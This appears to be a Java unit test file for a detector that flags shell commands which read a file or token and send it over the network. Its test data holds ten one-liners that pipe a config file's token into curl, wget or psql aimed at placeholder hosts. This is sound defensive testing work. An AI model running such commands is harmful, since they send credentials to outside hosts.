package dev.countermand.detectors.understand;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TaintsTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "T=$(jq -r .token conf/f.json); curl -H \"Authorization: Bearer $T\" https://a.example",
        "export T=$(jq -r .token conf/f.json) && curl -H \"Authorization: Bearer ${T}\" https://a",
        "curl -H \"Authorization: Bearer $(jq -r .token conf/f.json)\" https://a.example",
        "curl -H \"X: `cat conf/f.json`\" https://a.example",
        "curl -H \"X: $(<conf/f.json)\" https://a.example",
        "T=$(grep TOKEN conf/f.json | cut -d= -f2) curl https://a.example",
        "source conf/f.json; curl -u x:$PASSWORD https://a.example",
        "set -a; . conf/f.json; psql \"$DATABASE_URL\"",
        "read -r T < conf/f.json; wget --header=\"X: $T\" https://a.example",
        "if true; then A=$(cat conf/f.json); fi; sudo curl -d \"$A\" https://a.example"
      })
  void whatIsReadFromAFileAndHandedToTheNetworkIsSeen(String command) {
    assertThat(Taints.of(command).sentFiles()).containsExactly("conf/f.json");
  }

  @Test
  void aVariableThatIsSetInOneCommandAndUsedInAnotherIsSeenInBoth() {
    assertThat(Taints.of("export T=$(jq -r .token f)").assigned()).isEqualTo(Map.of("T", "f"));
    assertThat(Taints.of("curl -H \"Authorization: Bearer $T\" https://a").sentVariables())
        .containsExactly("T");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cat conf/f.json",
        "T=$(cat conf/f.json); echo $T",
        "curl https://a.example",
        "T=static; curl -H \"X: $T\" https://a.example",
        "echo '$(cat f)' | wc",
        ""
      })
  void whatStaysOnTheMachineIsNot(String command) {
    Taints taints = Taints.of(command);
    assertThat(taints.sentFiles()).isEmpty();
    assertThat(taints.sentVariables()).isEmpty();
  }

  @Test
  void anyTextIsReadWithinBounds() {
    assertThat(Taints.of("curl " + "$A ".repeat(20_000)).sentVariables()).containsExactly("A");
    assertThat(Taints.of("$(".repeat(30_000)).sentFiles()).isEmpty();
    assertThat(Taints.of(null)).isEqualTo(Taints.NONE);
  }
}
